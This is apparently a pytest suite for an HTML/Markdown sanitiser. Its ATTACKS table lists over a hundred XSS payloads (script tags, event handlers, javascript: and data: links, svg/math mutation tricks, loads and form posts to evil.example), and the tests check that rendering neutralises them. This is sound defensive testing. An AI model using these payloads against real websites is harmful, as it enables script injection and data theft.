"""Hostile HTML in articles: none of it runs, loads, sends or takes what is ours, as a browser's parser reads the page."""

import re
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from magcli.text.html import Setting, render

RUN = "document.title=1"
ATTACKS = {
    # what runs by itself
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<SCRIPT>{RUN}</SCRIPT>",
    "script over lines": f"<script\n>\n{RUN}\n</script\n>",
    "script never closed": f"<script>{RUN}",
    "script with a slash": f"<script/x>{RUN}</script>",
    "script in script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "module": f"<script type=module>{RUN}</script>",
    "script in a paragraph": f"Un <script>{RUN}</script> deux",
    "script behind a null": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "script in noscript": f"<noscript><p title=\"</noscript><script>{RUN}</script>\"></noscript>",
    "script in a template": f"<template><script>{RUN}</script></template>",
    "script in a list": f"<select><script>{RUN}</script></select>",
    # what runs on an event
    "image that fails": f"<img src=x onerror={RUN}>",
    "image, slashes for spaces": f"<img/src=x/onerror={RUN}>",
    "image, quoted": f"<img src=x onerror=\"{RUN}\">",
    "image, entity": "<img src=x onerror=&#100;ocument.title=1>",
    "image in capitals": f"<IMG SRC=x ONERROR={RUN}>",
    "image, broken quotes": f"<img \"\"\"><img src=x onerror={RUN}>\">",
    "image, backquotes": f"<img src=`x` onerror={RUN}>",
    "image over lines": f"<img src=x\nonerror\n=\n{RUN}>",
    "load": f"<svg onload={RUN}>",
    "body": f"<body onload={RUN}>",
    "focus": f"<b tabindex=1 autofocus onfocus={RUN}>a</b>",
    "details": f"<details open ontoggle={RUN}>a</details>",
    "mouse": f"<b onmouseover={RUN}>a</b>",
    "video": f"<video><source onerror={RUN}></video>",
    "sound": f"<audio src=x onerror={RUN}>",
    "animation": f"<b style=animation-name:x onanimationstart={RUN}>a</b>",
    "unknown element": f"<xyz onclick={RUN}>a</xyz>",
    "custom element": f"<x-y onclick={RUN} is=x>a</x-y>",
    "event with a tab": f"<b on\tclick={RUN}>a</b>",
    # links that run
    "javascript": f"<a href=javascript:{RUN}>a</a>",
    "javascript in capitals": f"<a href=JaVaScRiPt:{RUN}>a</a>",
    "javascript, entities": f"<a href=&#106;avascript:{RUN}>a</a>",
    "javascript, entities without an end": f"<a href=&#0000106avascript:{RUN}>a</a>",
    "javascript, tab": f"<a href=\"java\tscript:{RUN}\">a</a>",
    "javascript, line": f"<a href=\"java\nscript:{RUN}\">a</a>",
    "javascript, named entity": f"<a href=\"java&Tab;script&colon;{RUN}\">a</a>",
    "javascript behind a space": f"<a href=\" &#14; javascript:{RUN}\">a</a>",
    "javascript, null": f"<a href=\"java\0script:{RUN}\">a</a>",
    "vbscript": "<a href=vbscript:msgbox(1)>a</a>",
    "data": f"<a href=\"data:text/html,<script>{RUN}</script>\">a</a>",
    "data, encoded": "<a href=data:text/html;base64,PHNjcmlwdD4=>a</a>",
    "blob": "<a href=blob:https://e.org/x>a</a>",
    "link in Markdown": f"[a](javascript:{RUN})",
    "link in Markdown, entities": f"[a](&#x6A;avascript:{RUN})",
    "link in Markdown, spaces": f"[a](<  javascript:{RUN}>)",
    "link by name": f"[a]\n\n[a]: javascript:{RUN}",
    "autolink": f"<javascript:{RUN}>",
    "image in Markdown": f"![a](javascript:{RUN})",
    "image of data": "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "title that ends its attribute": f"[a](b '\" onclick={RUN} x=\"')",
    "alternative text that ends its attribute": f"![\" onerror={RUN} x=\"](b)",
    "language of code that ends its attribute": f"```\"><script>{RUN}</script>\na\n```",
    "area": f"<map><area href=javascript:{RUN}></map>",
    "quotation": f"<q cite=javascript:{RUN}>a</q>",
    "ping": "<a href=b ping=//evil.example target=_top>a</a>",
    # what loads
    "frame": f"<iframe src=javascript:{RUN}></iframe>",
    "frame with a page": f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "object": "<object data=//evil.example/x></object>",
    "plug-in": "<embed src=//evil.example/x>",
    "style": "<style>@import '//evil.example/x';</style>",
    "style attribute": "<b style='background:url(//evil.example/x)'>a</b>",
    "style sheet": "<link rel=stylesheet href=//evil.example/x>",
    "manifest": "<link rel=manifest href=//evil.example/x>",
    "image set": "<img src=a srcset='//evil.example/x 2x'>",
    "background": "<table background=//evil.example/x><tr><td background=//evil.example/x>a</table>",
    "poster": "<video src=a poster=javascript:x></video>",
    "refresh": f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">",
    "base": "<base href=//evil.example/>",
    "portal": "<portal src=//evil.example/></portal>",
    # what sends
    "form": "<form action=//evil.example><input name=a><button>b</button></form>",
    "field of another form": "<input form=x formaction=//evil.example type=submit>",
    "button": f"<button formaction=javascript:{RUN}>a</button>",
    "text field": "<textarea autofocus>a</textarea>",
    "image button": f"<input type=image src=x onerror={RUN}>",
    "editable": "<b contenteditable>a</b>",
    # what a parser takes for something else the second time
    "svg": f"<svg><script>{RUN}</script></svg>",
    "svg, animated": f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>a</text></a></svg>",
    "svg, use": "<svg><use href='data:image/svg+xml,x#y'></svg>",
    "svg, foreign": f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "svg, style": f"<svg><style><img src=x onerror={RUN}></style></svg>",
    "svg, title": f"<svg></p><style><a title=\"</style><img src=x onerror={RUN}>\">",
    "math": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={RUN}&gt;\">",
    "math, link": f"<math href=javascript:{RUN}>a</math>",
    "math, annotation": f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>",
    "comment": f"<!--><script>{RUN}</script>-->",
    "comment, dashes": f"<!--- --!><img src=x onerror={RUN}> -->",
    "comment, condition": f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    "declaration": f"<!x><img src=x onerror={RUN}>",
    "instruction": f"<?xml-stylesheet href=\"javascript:{RUN}\"?>",
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "cdata in svg": f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
    "title element": f"<title><img title=\"</title><img src=x onerror={RUN}>\">",
    "xmp": f"<xmp><p title=\"</xmp><img src=x onerror={RUN}>\">",
    "plain text": f"<plaintext><img src=x onerror={RUN}>",
    "table": f"<table><td><style></table><img src=x onerror={RUN}>",
    "half a tag": f"<img src=x onerror={RUN} ",
    "two openings": f"<<img src=x onerror={RUN}>",
    "tag in an attribute": f"<b title='<img src=x onerror={RUN}>'>a</b>",
    "attribute that ends twice": f"<b title=\"a\"onclick={RUN}//\">a</b>",
    "tag over two blocks": f"<b title=\"\n\nx\" onclick={RUN}>\n\n\">a</b>",
    "tag around a note": f"<b title='[^1]' onclick={RUN}>[^1]</b>",
    "byte order mark": f"\ufeff<script>{RUN}</script>",
    # what takes the place of ours
    "id of the page": "<p id=magcli.text>a</p>",
    "id of a note": "<li id=fn-a-1>a",
    "id of all notes": "<p id=fns-a>a</p>",
    "id of a reference": "<a name=fnref-a-1>a</a>",
    "names of the document": "<img name=cookie src=a><form id=body name=createElement></form>",
    "role": "<p role=alert aria-live=assertive aria-label=x tabindex=1>a</p>",
    "our mark": "<a id='\ue000fn-a-1' href='\ue000javascript:x' role='\ue000alert'>a</a>",
    "our mark, entity": "<a id=&#xE000;fn-a-1 href=&#xE000;javascript:x role=&#xE000;alert>a</a>",
    "end of the page": f"</section></main></body></html><script>{RUN}</script>",
}  # fmt: skip

MAY_STAND = frozenset({
    *("a", "abbr", "address", "audio", "b", "bdi", "bdo", "blockquote", "br", "caption", "cite", "code", "col", "colgroup", "dd", "del"),
    *("details", "dfn", "div", "dl", "dt", "em", "figcaption", "figure", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "input", "ins"),
    *("kbd", "li", "mark", "ol", "p", "pre", "q", "rp", "rt", "ruby", "s", "samp", "section", "small", "source", "span", "strong", "sub"),
    *("summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "time", "tr", "track", "u", "ul", "var", "video", "wbr"),
})  # fmt: skip
MAY_SAY = frozenset({
    *("alt", "aria-label", "aria-labelledby", "checked", "class", "colspan", "controls", "datetime", "dir", "disabled", "height", "href"),
    *("id", "kind", "label", "lang", "loading", "open", "poster", "preload", "reversed", "role", "rowspan", "scope", "span", "src"),
    *("srclang", "start", "tabindex", "title", "type", "value", "width"),
})  # fmt: skip
NOTES = "\n\nAprès[^1].\n\n[^1]: Une note.\n"


def tree(page: str) -> Element:
    return html5lib.parseFragment(page, namespaceHTMLElements=False)


def faults(page: str) -> list[str]:
    """Return what of *page*, as a browser reads it, could do more than show text."""
    found = []
    for element in list(tree(page).iter())[1:]:
        if element.tag not in MAY_STAND:
            found.append(f"<{element.tag}>")
        for name, value in element.attrib.items():
            if name not in MAY_SAY:
                found.append(f"{name}={value}")
            if name in ("href", "src", "poster") and is_trap(value):
                found.append(f"{name}={value}")
            if name == "role" and value not in ("doc-noteref", "doc-endnotes", "doc-backlink", "group"):
                found.append(f"{name}={value}")
    return found


def is_trap(address: str) -> bool:
    """Whether a browser finds a scheme in *address* that may not stand there: it passes over white space and controls."""
    scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", address))
    return bool(scheme) and scheme[1].lower() not in ("http", "https", "mailto", "tel")


def ids(page: str) -> list[str]:
    return [element.get("id") for element in tree(page).iter() if element.get("id")]


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=list(ATTACKS))
def test_an_attack_leaves_nothing_that_could_do_more_than_show_text(attack):
    """It stands before a text with a note, which keeps its ids; alone; and in the midst of a line."""
    for body in (attack + NOTES, attack, f"Un *{attack}* deux{NOTES}", f"> - {attack}{NOTES}"):
        page = render(body, Setting(slug="a"))
        assert faults(page) == []
        assert len(ids(page)) == len(set(ids(page)))


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=list(ATTACKS))
def test_an_attack_takes_no_note_its_place(attack):
    page = tree(render(NOTES + "\n\n" + attack, Setting(slug="a")))
    by_id = {element.get("id"): element for element in page.iter() if element.get("id")}
    assert (by_id["fn-a-1"].tag, by_id["fns-a"].tag) == ("li", "h2")
    assert by_id["fnref-a-1"].get("href") == "#fn-a-1"


@given(
    st.lists(
        st.sampled_from([*ATTACKS.values(), "'", '"', ">", "<", "\n\n", "`", "</b>", "<table>", "<p>"]), max_size=6
    )
)
def test_no_mixture_of_attacks_does_better(attacks):
    assert faults(render("".join(attacks) + NOTES, Setting(slug="a"))) == []


def test_what_finds_faults_finds_them():
    """The check itself: each of these is what a page must never hold."""
    assert faults("<script>x</script>") == ["<script>"]
    assert faults('<b onclick="x">a</b>') == ["onclick=x"]
    assert faults('<a href="java\nscript:x">a</a>') == ["href=java\nscript:x"]
    assert faults("<svg><a></a></svg>")[0].endswith("svg>")


@pytest.mark.parametrize(
    "useful",
    [
        '<abbr title="Produit intérieur brut">PIB</abbr>',
        "<sup>2</sup> <sub>2</sub> <cite>a</cite> <kbd>b</kbd> <q>c</q> <small>d</small>",
        "<mark>a</mark> <ins>b</ins> <del>c</del>",
        '<time datetime="2015-07-04">le 4 juillet</time>',
        '<span lang="en" dir="ltr">a</span>',
    ],
)
def test_what_is_useful_stays_as_it_is(useful):
    assert render(useful, Setting(slug="a")) == f"<p>{useful}</p>\n"
